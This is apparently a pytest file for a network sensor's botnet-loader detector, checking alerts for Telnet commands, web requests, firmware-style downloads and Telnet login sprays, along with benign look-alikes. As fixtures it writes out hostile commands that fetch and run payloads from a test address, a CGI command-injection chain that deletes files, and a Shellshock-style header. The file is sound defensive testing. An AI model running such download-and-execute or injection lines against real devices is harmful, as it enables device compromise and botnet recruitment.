"""Botnet loaders: over Telnet, in web requests, by downloads, by login sprays; similar benign traffic; repetition."""

from __future__ import annotations

import pytest

from sensor.core.addresses import parse
from sensor.core.alert import Alert, Severity
from sensor.core.event import Event
from sensor.core.packet import Packet
from sensor.core.time_units import SECOND
from sensor.dissectors.ftp import FtpFile
from sensor.dissectors.http import HttpRequest
from sensor.dissectors.telnet import TelnetCommand, TelnetLogin
from sensor.dissectors.tftp import TftpRead
from tests.detectors.stories import START, World, detector, device, inspected, one

LOADER = "command_and_control.botnet_loader"
NEAR, CAMERA, FAR = "10.0.0.66", "10.0.3.5", "203.0.113.9"


def packet(
    source: str, target: str, port: int, at: float = 0, *, flow: int = 1, answer: bool = False, proto: int = 6
) -> Packet:
    ts = START + int(at * SECOND)
    if answer:
        return Packet(ts=ts, src=parse(target), dst=parse(source), sport=port, dport=50000, proto=proto, flow=flow)
    return Packet(ts=ts, src=parse(source), dst=parse(target), sport=50000, dport=port, proto=proto, flow=flow)


def typed(line: str, at: float = 0, *, source: str = FAR, flow: int = 1) -> Event:
    return TelnetCommand(packet(source, CAMERA, 23, at, flow=flow), line)


def login(target: str, at: float, *, source: str = NEAR, answer: bool = True) -> Event:
    return TelnetLogin(packet(source, target, 23, at, answer=answer), "root", True, "refused")


def request(
    path: str,
    host: str = FAR,
    *,
    source: str = CAMERA,
    at: float = 0,
    odd: tuple[tuple[str, str], ...] = (),
    target: str = FAR,
) -> Event:
    return HttpRequest(packet(source, target, 80, at), "GET", host, path, "Wget", "", "", "", "", -1, False, odd=odd)


def reported(events: list[Event], *devices: object, **options: object) -> list[Alert]:
    return inspected(detector(LOADER, World(*devices), **options), events)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("cd /tmp; wget http://203.0.113.9/l.sh; chmod 777 l.sh; sh l.sh", Severity.high),
        ("busybox tftp -g -r l.mips 203.0.113.9; chmod +x l.mips; ./l.mips", Severity.high),
        ("curl http://203.0.113.9/l.sh | sh", Severity.high),
        ("/bin/busybox LZRD", Severity.high),
        (r"echo -ne '\x7f\x45\x4c\x46\x01' >> .l", Severity.high),
        ("wget http://203.0.113.9/notes.txt", Severity.medium),
        ("chmod 777 l", Severity.low),
    ],
)
def test_lines_that_plant_a_program(line: str, severity: Severity) -> None:
    alert = one(reported([typed(line)]))
    assert (alert.actor.address, alert.target and alert.target.address, alert.severity) == (
        parse(FAR),
        parse(CAMERA),
        severity,
    )
    assert [each.technique for each in alert.techniques] == ["T1105", "T1059.004"]
    assert line[:20].replace("\\", "\\\\") in alert.summary


def test_signs_add_up_over_a_session() -> None:
    """A download in one line and its execution in another raise an alert; lines of other sessions do not count."""
    found = reported([typed("wget http://203.0.113.9/l"), typed("chmod 777 l", 1), typed("chmod 777 x", 1, flow=2)])
    assert [alert.severity for alert in found] == [Severity.medium, Severity.high, Severity.low]


def test_a_web_page_that_takes_commands() -> None:
    chain = "/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/l+-O+/tmp/l;chmod+777+/tmp/l;sh+/tmp/l"
    alert = one(reported([request(chain, CAMERA, source=FAR, target=CAMERA)]))
    assert (alert.actor.address, alert.severity, alert.techniques[0].technique) == (parse(FAR), Severity.high, "T1105")
    assert one(reported([request(chain, "forum.example.org", source=NEAR, target=FAR)])).severity == Severity.low


def test_programs_for_several_processors() -> None:
    """Programs for three processors from a bare address raise an alert, over any protocol; for a device, one does."""
    alert = one(
        reported(
            [request(f"/bins/l.{each}", source=NEAR, at=n) for n, each in enumerate(("mips", "arm7", "x86", "sh4"))]
        )
    )
    assert (alert.actor.address, alert.target and alert.target.address, alert.numbers["processors"]) == (
        parse(NEAR),
        parse(FAR),
        3,
    )
    assert one(reported([request("/l.mpsl")], device("camera", CAMERA))).severity == Severity.high
    tftp, ftp = packet(CAMERA, FAR, 69, proto=17), packet(CAMERA, FAR, 21)
    assert one(reported([TftpRead(tftp, "l.arm", "octet", ())], device("camera", CAMERA))).network["app"] == "tftp"
    assert (
        one(reported([FtpFile(ftp, "RETR", "pub/x86_64", "anonymous")], device("camera", CAMERA))).network["app"]
        == "ftp"
    )


@pytest.mark.parametrize("answer", [True, False])
def test_a_spray_of_telnet_logins(answer: bool) -> None:
    """Telnet logins at five hosts raise an alert, more severe for a device and for an external host."""
    hosts = [login(f"10.0.3.{n}", n, answer=answer) for n in range(1, 7)]
    alert = one(reported(hosts))
    assert (alert.actor.address, alert.severity, alert.numbers["hosts"]) == (parse(NEAR), Severity.medium, 5)
    assert {one.technique for one in alert.techniques} == {"T1110", "T1110.001", "T1110.003"}
    assert one(reported(hosts, device("camera", NEAR))).severity == Severity.high
    assert one(reported([login(f"10.0.3.{n}", n, source=FAR) for n in range(1, 7)])).severity == Severity.high


@pytest.mark.parametrize(
    "events",
    [
        [typed("busybox --help", source=NEAR), typed("busybox ls -l", source=NEAR)],
        [login(CAMERA, n) for n in range(60)],
        [login(f"10.0.3.{n}", n * 1800) for n in range(1, 20)],
        [
            request(f"/pool/main/{each}", "deb.example.org", source=NEAR)
            for each in ("x.arm64", "y.i386", "z.mips", "x86_64")
        ],
        [request("/firmware/v2/upgrade.bin"), request("/alarm"), request("/search?q=wget+http://a/b;chmod")],
        [request("/bins/l.mips", source=NEAR)],
        [request("/help?topic=chmod+777"), request("/x", odd=(("user-agent", "() { :; }; echo"),))],
    ],
)
def test_benign_twins_are_quiet(events: list[Event]) -> None:
    """BusyBox commands, a mistyped password, an administrator's logins, package mirrors, firmware, a single program of
    a computer, and shell words in web pages raise no alert.
    """
    assert reported(events, device("camera", CAMERA)) == []


def test_managers_are_reported_low() -> None:
    assert (
        one(reported([typed("wget http://10.0.0.9/t; chmod +x t; ./t", source=NEAR)], managers=(NEAR,))).severity
        == Severity.low
    )


def test_repetition_is_one_finding() -> None:
    assert len(reported([typed("/bin/busybox LZRD", n) for n in range(300)])) == 1
    found = reported([login(f"10.0.{n // 200}.{n % 200}", n) for n in range(400)])
    assert len(found) < 8
    assert one(found)
